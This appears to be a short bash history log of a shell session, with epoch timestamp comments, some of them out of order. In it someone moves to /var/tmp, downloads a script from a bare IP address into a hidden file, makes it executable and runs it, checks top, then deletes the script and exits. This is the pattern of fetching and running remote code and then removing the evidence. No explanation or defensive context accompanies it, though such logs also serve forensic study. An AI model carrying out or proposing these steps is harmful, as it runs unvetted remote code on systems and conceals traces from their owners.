ls
df -h
#1709349500
cd /var/tmp
#1709349400
curl -fsSL http://198.51.100.23/x.sh -o .x.sh
#1709349520
chmod +x .x.sh
./.x.sh
top
#1709349600
rm -f .x.sh
exit
